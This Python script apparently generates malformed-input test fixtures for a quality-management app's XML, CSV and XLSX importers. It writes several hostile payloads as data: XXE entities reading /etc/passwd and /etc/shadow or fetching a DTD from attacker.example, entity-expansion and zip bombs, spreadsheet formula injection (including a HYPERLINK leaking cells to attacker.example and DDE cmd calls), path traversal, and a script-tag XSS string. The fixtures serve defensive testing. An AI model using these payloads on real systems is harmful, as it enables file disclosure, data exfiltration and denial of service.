#!/usr/bin/env python3
"""Writes the malformed-input corpus beside this script: catalogue/, plans/, evidence/, uploads/.

Run again after changing it; the files are kept in git so that tests need no Python. Inputs too
large to keep in git (a 65 MiB catalogue, a 200,000-row CSV, JSON nested 100,000 deep) are made by
the tests themselves (Tests/QMSServicesTests/MalformedInputTests.swift).
"""
import io
import os
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))


def write(path, data):
    full = os.path.join(HERE, path)
    os.makedirs(os.path.dirname(full), exist_ok=True)
    with open(full, "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode("utf-8"))


NS = "https://ns.electoralqms.org/catalogue/1"
CATALOGUE = f"""<?xml version="1.0" encoding="UTF-8"?>
<catalogue xmlns="{NS}" formatVersion="1">
  <standard id="malformed-test" edition="1" status="current">
    <title><en>Malformed test</en><ar>اختبار</ar></title>
    <publisher>Tests</publisher>
  </standard>
  <requirement number="1" kind="clause">
    <title><en>First</en><ar>الأول</ar></title>
    <summary><en>The first clause.</en><ar>البند الأول.</ar></summary>
  </requirement>
</catalogue>
"""

# Catalogues (eqms catalogue import).
write("catalogue/truncated.xml", CATALOGUE[: len(CATALOGUE) // 2])
write("catalogue/empty.xml", b"")
write("catalogue/bom-only.xml", b"\xef\xbb\xbf")
write("catalogue/binary.xml", bytes(range(256)) * 4)
write("catalogue/latin1-declared-utf8.xml", CATALOGUE.replace("Malformed test", "Malformed t\u00e9st").encode("latin-1", "replace").replace(b"\xd8\xa7\xd8\xae", b"\xe9\xe9"))
write("catalogue/utf8-declared-utf16.xml", CATALOGUE.replace('encoding="UTF-8"', 'encoding="UTF-16"'))
write("catalogue/xxe-file.xml", f"""<?xml version="1.0"?>
<!DOCTYPE catalogue [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<catalogue xmlns="{NS}" formatVersion="1"><standard id="xxe" edition="1" status="current">
<title><en>&xxe;</en></title><publisher>x</publisher></standard></catalogue>
""")
write("catalogue/xxe-parameter-entity.xml", f"""<?xml version="1.0"?>
<!DOCTYPE catalogue [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<catalogue xmlns="{NS}" formatVersion="1"/>
""")
write("catalogue/external-dtd.xml", f"""<?xml version="1.0"?>
<!DOCTYPE catalogue SYSTEM "../../../../etc/passwd">
<catalogue xmlns="{NS}" formatVersion="1"/>
""")
lol = "".join(f'<!ENTITY lol{i} "{("&lol%d;" % (i - 1)) * 10}">' for i in range(1, 10))
write("catalogue/billion-laughs.xml", f"""<?xml version="1.0"?>
<!DOCTYPE catalogue [<!ENTITY lol0 "lol">{lol}]>
<catalogue xmlns="{NS}" formatVersion="1"><standard id="lol" edition="1" status="current">
<title><en>&lol9;</en></title><publisher>x</publisher></standard></catalogue>
""")
write("catalogue/quadratic-blowup.xml", '<?xml version="1.0"?>\n<!DOCTYPE c [<!ENTITY a "' + "a" * 50000 + '">]>\n<catalogue xmlns="' + NS + '">' + "&a;" * 2000 + "</catalogue>\n")
write("catalogue/deeply-nested.xml", '<?xml version="1.0"?>\n<catalogue xmlns="' + NS + '">' + "<requirement>" * 5000 + "</requirement>" * 5000 + "</catalogue>\n")
write("catalogue/path-traversal-id.xml", CATALOGUE.replace('id="malformed-test"', 'id="../../etc/passwd"'))
write("catalogue/not-a-catalogue.xml", '<?xml version="1.0"?>\n<html><body>Not a catalogue</body></html>\n')
write("catalogue/oscal-truncated.json", '{"catalog": {"uuid": "74c8ba1e-5cd4-4ad1-bbfd-d888e2f6c724", "metadata": {"title": "Trunc')
write("catalogue/oscal-wrong-types.json", '{"catalog": {"uuid": 42, "metadata": {"title": ["not", "a", "string"]}, "groups": "none"}}')
write("catalogue/oscal-xxe.xml", """<?xml version="1.0"?>
<!DOCTYPE catalog [<!ENTITY xxe SYSTEM "file:///etc/shadow">]>
<catalog xmlns="http://csrc.nist.gov/ns/oscal/1.0" uuid="74c8ba1e-5cd4-4ad1-bbfd-d888e2f6c724">
<metadata><title>&xxe;</title></metadata></catalog>
""")
write("catalogue/oscal-nested-arrays.json", '{"catalog": ' + "[" * 3000 + "]" * 3000 + "}")

# Plans (eqms plan import): plan XML, AWP CSV, AWP XLSX.
PLANS = open(os.path.join(HERE, "..", "..", "Plans", "hnec-libya-2018-2019.xml"), encoding="utf-8").read()
write("plans/truncated.xml", PLANS[: len(PLANS) // 3])
write("plans/xxe.xml", PLANS.replace("<?xml version=\"1.0\" encoding=\"UTF-8\"?>", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE plans [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>", 1))
write("plans/latin1-declared-utf8.xml", PLANS.encode("utf-8").replace("ا".encode("utf-8"), b"\xc7"))
write("plans/deeply-nested.xml", '<?xml version="1.0"?>\n<planSet xmlns="https://ns.electoralqms.org/plans/1">' + "<x>" * 5000 + "</x>" * 5000 + "</planSet>\n")
AWP_COLUMNS = "awp,year,currency,output,activity,title,quarters,responsible_party,account,source,q1,q2,q3,q4"
REST = ",Q1,HNEC,71200,UNDP,1000,0,0,0"
write("plans/awp-formula.csv", "\ufeff" + AWP_COLUMNS + "\r\n" + 'hnec-2018,2018,USD,1,1.1,"=HYPERLINK(""http://attacker.example/?""&A1,""Click"")"' + REST + '\r\n')
write("plans/awp-formula-cmd.csv", AWP_COLUMNS + "\r\n" + "hnec-2018,2018,USD,1,1.1,@SUM(1+9)*cmd|' /C calc'!A0" + REST + "\r\n")
write("plans/awp-utf16.csv", (AWP_COLUMNS + "\r\nhnec-2018,2018,USD,1,1.1,Title" + REST + "\r\n").encode("utf-16"))
write("plans/awp-unterminated-quote.csv", AWP_COLUMNS + "\r\n" + 'hnec-2018,2018,USD,1,1.1,"Title never closed\r\n')
write("plans/awp-invalid-utf8.csv", AWP_COLUMNS.encode() + b"\r\nhnec-2018,2018,USD,1,1.1,Caf\xe9 \xff\xfe" + REST.encode() + b"\r\n")


def xlsx(cells, extra=None, rels_target="worksheets/sheet1.xml"):
    """A minimal workbook whose first sheet holds `cells` (a list of rows of strings)."""
    rows = []
    for r, row in enumerate(cells, start=1):
        cs = "".join(
            f'<c r="{chr(65 + c)}{r}" t="inlineStr"><is><t>{v}</t></is></c>' for c, v in enumerate(row))
        rows.append(f'<row r="{r}">{cs}</row>')
    sheet = ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
             'spreadsheetml/2006/main"><sheetData>' + "".join(rows) + "</sheetData></worksheet>")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')
        z.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
        z.writestr("xl/workbook.xml", '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="AWP" sheetId="1" r:id="rId1"/></sheets></workbook>')
        z.writestr("xl/_rels/workbook.xml.rels", f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="{rels_target}"/></Relationships>')
        z.writestr("xl/worksheets/sheet1.xml", sheet)
        for name, data in (extra or {}).items():
            z.writestr(name, data)
    return buffer.getvalue()


header = AWP_COLUMNS.split(",")
write("plans/awp-formula.xlsx", xlsx([header, ["hnec-2018", "2018", "USD", "1", "1.1", "=cmd|' /C calc'!A0"] + REST.split(",")[1:]]))
write("plans/awp-path-traversal.xlsx", xlsx([header], rels_target="../../../../etc/passwd"))
good = xlsx([header, ["hnec-2018", "2018", "USD", "1", "1.1", "Title"] + REST.split(",")[1:]])
write("plans/awp-truncated.xlsx", good[: len(good) // 2])
# A zip bomb: one part that inflates to 80 MiB of spaces inside a valid-looking sheet.
bomb = io.BytesIO()
with zipfile.ZipFile(io.BytesIO(good)) as source, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
    for item in source.infolist():
        if item.filename == "xl/worksheets/sheet1.xml":
            z.writestr(item.filename, source.read(item.filename)[:-len(b"</worksheet>")] + b" " * (80 * 1024 * 1024) + b"</worksheet>")
        else:
            z.writestr(item, source.read(item.filename))
write("plans/awp-zip-bomb.xlsx", bomb.getvalue())
# A package bomb: five sheets, each inflating to 60 MiB (under the 64 MiB a part may reach, padded
# with 1 MiB comments, under libxml2's limit on one node), so that only the 256 MiB the whole
# package may inflate to stops it, at the fifth sheet.
SHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
padding = (b"<!--" + b"a" * (1024 * 1024 - 7) + b"-->") * 60
package_bomb = io.BytesIO()
with zipfile.ZipFile(package_bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
    z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')
    z.writestr("_rels/.rels", f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{REL_NS}/officeDocument" Target="xl/workbook.xml"/></Relationships>')
    sheets = "".join(f'<sheet name="S{i}" sheetId="{i}" r:id="rId{i}"/>' for i in range(1, 6))
    z.writestr("xl/workbook.xml", f'<?xml version="1.0"?><workbook xmlns="{SHEET_NS}" xmlns:r="{REL_NS}"><sheets>{sheets}</sheets></workbook>')
    rels = "".join(f'<Relationship Id="rId{i}" Type="{REL_NS}/worksheet" Target="worksheets/sheet{i}.xml"/>' for i in range(1, 6))
    z.writestr("xl/_rels/workbook.xml.rels", f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rels}</Relationships>')
    for i in range(1, 6):
        z.writestr(f"xl/worksheets/sheet{i}.xml", f'<?xml version="1.0"?><worksheet xmlns="{SHEET_NS}"><sheetData/>'.encode() + padding + b"</worksheet>")
write("plans/awp-package-bomb.xlsx", package_bomb.getvalue())
write("plans/awp-not-a-zip.xlsx", "awp,year\nthis is a CSV renamed .xlsx\n")

# Evidence (eqms evidence import).
EV = "title,requirements,kind,owner,process,effective_date,valid_until,review_due,confidentiality,link,files"
write("evidence/formula-hyperlink.csv", EV + "\r\n" + '"=HYPERLINK(""http://attacker.example"",""Open"")",iso-9001-2015:5.2.2,note,Amal,,2026-01-01,,,internal,,\r\n')
write("evidence/formula-dde.csv", EV + "\r\n" + "Policy,iso-9001-2015:5.2.2,note,@SUM(1+1)*cmd|' /C calc'!A0,,2026-01-01,,,internal,,\r\n")
write("evidence/formula-plus.csv", EV + "\r\n" + "Policy,iso-9001-2015:5.2.2,note,Amal,,2026-01-01,,,internal,,\r\nSecond,iso-9001-2015:5.2.2,note,+cmd|' /C calc'!A0,,2026-01-01,,,internal,,\r\n")
write("evidence/path-traversal.csv", EV + "\r\n" + "Passwords,iso-9001-2015:5.2.2,record,Amal,,2026-01-01,,,internal,,../../../../../../etc/passwd\r\n")
write("evidence/absolute-path.csv", EV + "\r\n" + "Passwords,iso-9001-2015:5.2.2,record,Amal,,2026-01-01,,,internal,,/etc/passwd\r\n")
write("evidence/truncated.csv", EV + "\r\n" + 'Policy,iso-9001-2015:5.2.2,note,"Amal')
write("evidence/utf16.csv", (EV + "\r\nPolicy,iso-9001-2015:5.2.2,note,Amal,,2026-01-01,,,internal,,\r\n").encode("utf-16"))
write("evidence/invalid-utf8.csv", EV.encode() + b"\r\nPolicy \xff\xfe,iso-9001-2015:5.2.2,note,Amal,,2026-01-01,,,internal,,\r\n")
write("evidence/nul-bytes.csv", EV.encode() + b"\r\nPol\x00icy,iso-9001-2015:5.2.2,note,Amal,,2026-01-01,,,internal,,\r\n")
write("evidence/header-only.csv", EV + "\r\n")
write("evidence/too-many-fields.csv", EV + "\r\nPolicy,iso-9001-2015:5.2.2,note,Amal,,2026-01-01,,,internal,,,extra,fields\r\n")
write("evidence/script-and-bad-date.csv", EV + "\r\n" + "<script>alert(1)</script>,iso-9001-2015:5.2.2,note,Amal,,2026-02-30,,,internal,,\r\n")
